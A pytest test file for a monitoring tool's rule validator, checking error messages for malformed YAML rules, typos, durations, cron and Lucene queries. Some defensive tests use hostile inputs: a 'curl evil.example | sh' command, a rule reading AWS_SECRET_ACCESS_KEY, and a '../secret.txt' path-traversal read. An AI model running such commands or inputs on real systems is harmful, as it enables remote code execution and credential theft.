"""``watchdog validate``: every error at once, with file, line, key path and a useful message."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from watchdog.cli import main
from watchdog.config import load_config
from watchdog.schema import load_schema
from watchdog.loader import load_rules
from watchdog.lucene import query_error
from watchdog.problems import InvalidFileError

REPO = Path(__file__).resolve().parent.parent

CONFIG = """\
rules_dir: rules
state_path: state.db
sources:
  logs: {type: search, hosts: ["http://127.0.0.1:9200"]}
  warehouse: {type: postgres, dsn: "host=127.0.0.1 dbname=warehouse"}
  aws: {type: dms, region: us-east-1}
"""

GOOD_RULE = """\
name: app-errors
type: threshold
source: logs
index: "app-logs-*"
query: "level:error"
window: 5m
threshold: {above: 50}
group_by: team
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "rules").mkdir()
    (tmp_path / "watchdog.yaml").write_text(CONFIG)
    (tmp_path / "rules" / "good.yaml").write_text(GOOD_RULE)
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("WATCHDOG_CONFIG", raising=False)
    return tmp_path


def write_rule(project: Path, name: str, text: str) -> str:
    (project / "rules" / name).write_text(textwrap.dedent(text))
    return f"rules/{name}"


def validate(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict]:
    code = main(["validate", "-c", "watchdog.yaml", "--format", "json", *args])
    return code, json.loads(capsys.readouterr().out)


def only_error(capsys: pytest.CaptureFixture[str], *args: str) -> dict:
    code, out = validate(capsys, *args)
    assert code == 1 and out["valid"] is False
    assert len(out["errors"]) == 1, out["errors"]
    return out["errors"][0]


def test_valid_rules_exit_zero(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = validate(capsys)
    assert (code, out["valid"], out["errors"], out["rules"]) == (0, True, [], 1)


def test_yaml_syntax_error_names_the_line(project: Path, capsys) -> None:
    path = write_rule(project, "broken.yaml", """\
        name: broken
        type: threshold
        threshold: {above: 5
        window: 5m
    """)
    error = only_error(capsys)
    assert (error["file"], error["line"]) == (path, 4)
    assert "YAML syntax error" in error["message"]


def test_misspelled_key_suggests_the_closest(project: Path, capsys) -> None:
    path = write_rule(project, "typo.yaml", GOOD_RULE.replace("app-errors", "typo").replace("{above: 50}", "\n  abov: 50"))
    error = only_error(capsys)
    assert error == {"file": path, "line": 8, "column": 3, "path": "threshold.abov",
                     "message": "unknown key 'abov' (did you mean 'above'?)"}


def test_misspelled_top_level_key(project: Path, capsys) -> None:
    write_rule(project, "typo.yaml", GOOD_RULE.replace("app-errors", "typo").replace("group_by", "groupby"))
    error = only_error(capsys)
    assert (error["line"], error["path"]) == (8, "groupby")
    assert error["message"] == "unknown key 'groupby' (did you mean 'group_by'?)"


def test_key_of_another_rule_type(project: Path, capsys) -> None:
    write_rule(project, "other.yaml", GOOD_RULE.replace("app-errors", "other") + "warn_after: 2h\n")
    error = only_error(capsys)
    assert (error["line"], error["message"]) == (9, "key 'warn_after' is not used by type 'threshold'")


def test_wrong_type(project: Path, capsys) -> None:
    write_rule(project, "wrong.yaml", GOOD_RULE.replace("app-errors", "wrong").replace("{above: 50}", "{above: lots}"))
    error = only_error(capsys)
    assert (error["line"], error["path"]) == (7, "threshold.above")
    assert error["message"] == "must be a number or a mapping, not a string ('lots'): e.g. 50 or {warning: 50, critical: 200}"


def test_bad_duration(project: Path, capsys) -> None:
    write_rule(project, "dur.yaml", GOOD_RULE.replace("app-errors", "dur").replace("window: 5m", "window: 5 minutes"))
    error = only_error(capsys)
    assert (error["line"], error["column"], error["path"]) == (6, 9, "window")
    assert error["message"].startswith("'5 minutes' is not a duration (use e.g. 30s, 5m")


def test_bad_cron_expression(project: Path, capsys) -> None:
    write_rule(project, "cron.yaml", GOOD_RULE.replace("app-errors", "cron") + "schedule: {cron: '61 * * * *'}\n")
    error = only_error(capsys)
    assert (error["line"], error["path"]) == (9, "schedule.cron")
    assert "'61 * * * *' is not a valid cron expression" in error["message"]


def test_unknown_cron_timezone(project: Path, capsys) -> None:
    write_rule(project, "tz.yaml", GOOD_RULE.replace("app-errors", "tz") + "schedule: {cron: '0 * * * *', timezone: Mars/Base}\n")
    error = only_error(capsys)
    assert (error["path"], error["message"][:30]) == ("schedule.timezone", "unknown time zone 'Mars/Base' ")


def test_missing_required_key(project: Path, capsys) -> None:
    write_rule(project, "missing.yaml", GOOD_RULE.replace("app-errors", "missing").replace("window: 5m\n", ""))
    error = only_error(capsys)
    assert (error["line"], error["path"], error["message"]) == (1, "", "missing required key 'window'")


def test_a_copy_with_the_same_name_is_refused_and_the_original_keeps_running(project: Path, capsys) -> None:
    original = project / "rules" / "good.yaml"
    os.utime(original, (1_700_000_000, 1_700_000_000))  # there first, though "a-copy" sorts before it
    write_rule(project, "a-copy.yaml", GOOD_RULE)
    code, out = validate(capsys)
    assert code == 1
    messages = {(e["file"], e["line"], e["message"]) for e in out["errors"]}
    assert messages == {("rules/a-copy.yaml", 1, "rule name 'app-errors' is already used by rules/good.yaml, which keeps "
                                                 "running; give this rule another name")}
    config = load_config(str(project / "watchdog.yaml"))
    (rule,) = load_rules([config.rules_dir], config).rules
    assert rule.path == str(original)


def test_missing_environment_variable(project: Path, capsys, monkeypatch) -> None:
    monkeypatch.delenv("WATCHDOG_TEST_CHANNEL", raising=False)
    (project / "watchdog.yaml").write_text(CONFIG + "rule_env: [WATCHDOG_TEST_CHANNEL]\n")
    write_rule(project, "env.yaml", GOOD_RULE.replace("app-errors", "env") + "notify:\n  slack: {channel: '${WATCHDOG_TEST_CHANNEL}'}\n")
    error = only_error(capsys)
    assert (error["line"], error["path"]) == (10, "notify.slack.channel")
    assert error["message"].startswith("environment variable 'WATCHDOG_TEST_CHANNEL' is not set: set it")
    monkeypatch.setenv("WATCHDOG_TEST_CHANNEL", "#oncall")
    code, _ = validate(capsys)
    assert code == 0


def test_a_rule_reads_only_the_variables_the_config_allows(project: Path, capsys, monkeypatch) -> None:
    """The issue's attack: message: "key=${AWS_SECRET_ACCESS_KEY}" in a rule file."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "planted-secret-value")
    monkeypatch.setenv("TEAM_CHANNEL", "#team")
    (project / "watchdog.yaml").write_text(CONFIG + "rule_env: [TEAM_CHANNEL]\n")
    write_rule(project, "env.yaml", GOOD_RULE.replace("app-errors", "env")
               + "message: 'key=${AWS_SECRET_ACCESS_KEY} {count}'\nnotify:\n  slack: {channel: '${TEAM_CHANNEL}'}\n")
    error = only_error(capsys)
    assert (error["line"], error["path"]) == (9, "message")
    assert error["message"] == ("environment variable 'AWS_SECRET_ACCESS_KEY' is not available to rules: add it to "
                                "'rule_env' in watchdog.yaml if rules may read it (rule_env now: TEAM_CHANNEL)")
    write_rule(project, "env.yaml", GOOD_RULE.replace("app-errors", "env") + "notify:\n  slack: {channel: '${TEAM_CHANNEL}'}\n")
    code, _ = validate(capsys)
    assert code == 0
    from watchdog.loader import load_rules as load
    (rule,) = [r for r in load(["rules"], load_config("watchdog.yaml")).rules if r.name == "env"]
    assert rule.notify.channel == "#team"


def test_without_rule_env_rules_read_no_variable(project: Path, capsys, monkeypatch) -> None:
    monkeypatch.setenv("HOME", "/root")
    write_rule(project, "env.yaml", GOOD_RULE.replace("app-errors", "env") + "description: 'home ${HOME:-unknown}'\n")
    error = only_error(capsys)
    assert "environment variable 'HOME' is not available to rules" in error["message"]
    assert "rule_env now: none" in error["message"] and "/root" not in json.dumps(error)


def test_missing_environment_variable_in_config(project: Path, monkeypatch) -> None:
    monkeypatch.delenv("WAREHOUSE_DSN", raising=False)
    (project / "watchdog.yaml").write_text(CONFIG.replace('"host=127.0.0.1 dbname=warehouse"', "'${WAREHOUSE_DSN}'"))
    with pytest.raises(InvalidFileError) as info:
        load_config("watchdog.yaml")
    (problem,) = info.value.problems
    assert (problem.file, problem.line, problem.path) == ("watchdog.yaml", 5, "sources.warehouse.dsn")
    monkeypatch.setenv("WAREHOUSE_DSN", "host=db dbname=w")
    assert load_config("watchdog.yaml").sources["warehouse"].dsn == "host=db dbname=w"  # type: ignore[union-attr]


def test_above_with_below_is_rejected(project: Path, capsys) -> None:
    write_rule(project, "band.yaml", GOOD_RULE.replace("app-errors", "band").replace("{above: 50}", "{above: 50, below: 1}"))
    error = only_error(capsys)
    assert (error["line"], error["path"]) == (7, "threshold")
    assert error["message"] == "give either 'above' or 'below', not both (use two rules for a band)"


def test_every_error_in_a_file_at_once(project: Path, capsys) -> None:
    write_rule(project, "many.yaml", """\
        name: Many Errors
        type: freshness
        source: logs
        checks:
          - {name: a, table: x, loaded_at: y}
        warn_after: soon
        severity: urgent
        message: "{chek} is old"
    """)
    code, out = validate(capsys)
    assert code == 1
    found = {(e["line"], e["path"]) for e in out["errors"]}
    assert found == {(1, "name"), (3, "source"), (6, "warn_after"), (7, "severity"), (8, "message")}
    by_path = {e["path"]: e["message"] for e in out["errors"]}
    assert by_path["severity"] == "'urgent' is not one of: info, warning, critical"
    assert by_path["source"] == "source 'logs' is of type 'search'; this needs a 'postgres' source"
    assert by_path["message"] == "unknown placeholder '{chek}' (did you mean '{check}'?)"


def test_logical_checks_after_the_schema(project: Path, capsys) -> None:
    write_rule(project, "fresh.yaml", """\
        name: fresh
        type: freshness
        source: warehouse
        checks:
          - {name: a, table: x, loaded_at: y}
        warn_after: 6h
        error_after: 2h
    """)
    error = only_error(capsys)
    assert (error["path"], error["message"]) == ("error_after", "error_after (2:00:00) must be longer than warn_after (6:00:00)")


def test_unknown_source(project: Path, capsys) -> None:
    write_rule(project, "src.yaml", GOOD_RULE.replace("app-errors", "src").replace("source: logs", "source: log"))
    error = only_error(capsys)
    assert error["message"] == "unknown source 'log' (sources in %s: aws, logs, warehouse)" % (project / "watchdog.yaml")


def test_text_output_and_exit_codes(project: Path, capsys) -> None:
    write_rule(project, "typo.yaml", GOOD_RULE.replace("app-errors", "typo").replace("{above: 50}", "{abov: 50}"))
    assert main(["validate", "-c", "watchdog.yaml"]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out == ["rules/typo.yaml:7:13: threshold.abov: unknown key 'abov' (did you mean 'above'?)", "1 problem in 1 file"]
    assert main(["validate", "-c", "watchdog.yaml", "rules/good.yaml"]) == 0
    assert capsys.readouterr().out.startswith("ok: 1 rule file valid")
    assert main(["validate", "-c", "watchdog.yaml", "nope.yaml"]) == 2


def test_usage_error_exits_two(project: Path) -> None:
    result = subprocess.run([sys.executable, "-m", "watchdog", "validate", "--format", "xml"], capture_output=True, text=True)
    assert result.returncode == 2 and "invalid choice" in result.stderr


def test_config_errors_are_reported_with_the_rules(project: Path, capsys) -> None:
    (project / "watchdog.yaml").write_text(CONFIG + "slack:\n  tokn: x\n")
    code, out = validate(capsys)
    assert code == 1
    assert [(e["file"], e["line"], e["message"]) for e in out["errors"]] == [
        ("watchdog.yaml", 8, "unknown key 'tokn' (did you mean 'token'?)")]


def test_secret_files_are_read_relative_to_the_config(project: Path) -> None:
    (project / "token").write_text("xoxb-secret\n")
    (project / "watchdog.yaml").write_text(CONFIG + "slack:\n  token_file: token\n  channel: '#alerts'\n")
    config = load_config("watchdog.yaml")
    assert config.slack is not None and config.slack.token == "xoxb-secret"
    assert "xoxb-secret" not in repr(config)


def test_a_bad_rule_does_not_stop_the_others(project: Path) -> None:
    write_rule(project, "bad.yaml", "name: bad\ntype: nope\n")
    result = load_rules([str(project / "rules")], load_config("watchdog.yaml"))
    assert [r.name for r in result.rules] == ["app-errors"]
    types = ", ".join(load_schema("rule.schema.json")["properties"]["type"]["enum"])
    assert [p.message for p in result.problems] == [f"unknown type 'nope': the types are {types}"]


def test_typed_rule_objects(project: Path) -> None:
    (rule,) = load_rules(["rules"], load_config("watchdog.yaml")).rules
    assert rule.options.window.total_seconds() == 300
    assert rule.options.threshold.breached(51) and not rule.options.threshold.breached(50)
    assert rule.schedule.every is not None and rule.schedule.every.total_seconds() == 60
    with pytest.raises(AttributeError):
        rule.name = "x"  # type: ignore[misc]


def test_example_rules_in_the_repository_are_valid(capsys) -> None:
    code = main(["validate", "-c", str(REPO / "demo" / "watchdog.yaml"), "--format", "json", str(REPO / "rules")])
    out = json.loads(capsys.readouterr().out)
    assert code == 0, out["errors"]
    assert out["rules"] >= 1


REFRESH_RULE = """\
name: fix-dms
type: dms_remediate
source: aws
tasks: [prod-to-warehouse]
refresh: {{source: warehouse, sql_file: {sql_file}}}
"""


def test_a_rule_reads_files_only_where_the_config_allows(project: Path, capsys) -> None:
    secret = project / "secret.txt"
    secret.write_text("hunter2secretpassword\n")
    write_rule(project, "fix.yaml", REFRESH_RULE.format(sql_file="../secret.txt"))
    error = only_error(capsys)
    assert (error["path"], error["message"]) == ("refresh.sql_file", "a rule may read files only under rules; put the "
                                                 "file there, or add its directory to 'rule_file_dirs' in the config")
    (project / "sql").mkdir()
    (project / "sql" / "refresh.sql").write_text("call analytics.refresh() hunter2secret")  # broken: never quoted back
    (project / "watchdog.yaml").write_text((project / "watchdog.yaml").read_text() + "rule_file_dirs: [sql]\n")
    write_rule(project, "fix.yaml", REFRESH_RULE.format(sql_file="../sql/refresh.sql"))
    error = only_error(capsys)
    assert error["message"] == "not valid SQL: syntax error at character 26"
    write_rule(project, "fix.yaml", REFRESH_RULE.format(sql_file="../secret.txt"))  # still outside what is granted
    assert "hunter2" not in json.dumps(only_error(capsys))


def test_a_refresh_command_must_be_one_the_config_lists(project: Path, capsys) -> None:
    rule = REFRESH_RULE.replace("{{source: warehouse, sql_file: {sql_file}}}", "{{command: {command}}}")
    write_rule(project, "fix.yaml", rule.format(command="[sh, -c, 'curl evil.example | sh']"))
    error = only_error(capsys)
    assert (error["path"], error["message"]) == ("refresh.command", "a rule may run only the commands listed in "
                                                 "'rule_commands' in watchdog.yaml, exactly as written there; ask the "
                                                 "operator to add this one")
    (project / "watchdog.yaml").write_text((project / "watchdog.yaml").read_text()
                                           + "rule_commands:\n  - [systemctl, start, warehouse-refresh.service]\n")
    write_rule(project, "fix.yaml", rule.format(command="[systemctl, start, warehouse-refresh.service]"))
    assert validate(capsys)[0] == 0
    write_rule(project, "fix.yaml", rule.format(command="[systemctl, stop, postgresql.service]"))  # same program: not enough
    assert only_error(capsys)["path"] == "refresh.command"


# --- validate says what the daemon will refuse --------------------------------------------------------------

SEARCH_RULE = "name: {name}\ntype: threshold\nsource: logs\nindex: app\nquery: {query}\nwindow: 5m\nthreshold: {{above: 5}}\n"


def _validate(root: Path, *paths: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict]:
    code = main(["validate", "-c", str(root / "watchdog.yaml"), "--format", "json", *paths])
    return code, json.loads(capsys.readouterr().out)


def _search_project(root: Path, extra: str = "") -> None:
    (root / "rules").mkdir()
    (root / "watchdog.yaml").write_text('rules_dir: rules\nstate_path: state.db\nsources:\n'
                                        '  logs: {type: search, hosts: ["http://127.0.0.1:1"]}\n' + extra)


def test_validate_of_a_single_file_refuses_a_name_the_rules_directory_uses(tmp_path: Path,
                                                                           capsys: pytest.CaptureFixture[str]) -> None:
    _search_project(tmp_path)
    (tmp_path / "rules" / "app.yaml").write_text(SEARCH_RULE.format(name="app-errors", query="level:error"))
    (tmp_path / "new.yaml").write_text(SEARCH_RULE.format(name="app-errors", query="level:warn"))
    code, doc = _validate(tmp_path, str(tmp_path / "new.yaml"), capsys=capsys)
    assert code == 1
    (error,) = doc["errors"]
    assert (error["line"], error["path"]) == (1, "name") and "already used by" in error["message"]
    assert "rules/app.yaml" in error["message"]
    assert _validate(tmp_path, str(tmp_path / "rules" / "app.yaml"), capsys=capsys)[0] == 0  # itself is no duplicate


@pytest.mark.parametrize(("query", "column"), [('"level:(error"', 21), ("'foo:bar)'", 16), ("foo:bar)", 15)])
def test_a_lucene_syntax_error_is_named_with_file_line_and_column(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                  query: str, column: int) -> None:
    _search_project(tmp_path)
    (tmp_path / "rules" / "app.yaml").write_text(SEARCH_RULE.format(name="app-errors", query=query))
    code, doc = _validate(tmp_path, capsys=capsys)
    assert code == 1
    (error,) = doc["errors"]
    assert error["file"].endswith("rules/app.yaml") and (error["line"], error["column"]) == (5, column)
    assert error["path"] == "query" and error["message"].startswith("not a valid Lucene query")


def test_ratio_selectors_are_parsed_too_and_good_queries_pass(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _search_project(tmp_path)
    (tmp_path / "rules" / "ok.yaml").write_text(SEARCH_RULE.format(
        name="ok", query="'level:error AND NOT status:[400 TO 499] AND host:*.example.com'"))
    (tmp_path / "rules" / "ratio.yaml").write_text(
        "name: r\ntype: ratio\nsource: logs\nindex: app\nnumerator: {query: 'level:(error'}\nwindow: 5m\n"
        "threshold: {above: 0.5}\n")
    code, doc = _validate(tmp_path, capsys=capsys)
    assert code == 1 and [(e["file"].rsplit("/", 1)[1], e["path"]) for e in doc["errors"]] == [("ratio.yaml", "numerator.query")]


def test_lag_without_a_cloudwatch_endpoint_beside_a_dms_endpoint_is_a_warning(tmp_path: Path,
                                                                             capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "rules").mkdir()
    (tmp_path / "watchdog.yaml").write_text("rules_dir: rules\nstate_path: state.db\nsources:\n"
                                            "  aws: {type: dms, region: us-east-1, endpoint_url: 'http://127.0.0.1:1'}\n")
    (tmp_path / "rules" / "lag.yaml").write_text("name: lag\ntype: dms_task\nsource: aws\nlag: {warn_after: 5m}\n")
    code, doc = _validate(tmp_path, capsys=capsys)
    assert code == 0 and doc["valid"]
    (warning,) = doc["warnings"]
    assert "rules/lag.yaml: lag:" in warning and "cloudwatch_endpoint_url" in warning


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60))
def test_any_query_string_parses_or_says_why(query: str) -> None:
    error = query_error(query)
    assert error is None or (isinstance(error[1], str) and error[1] and (error[0] is None or 0 <= error[0] <= len(query)))
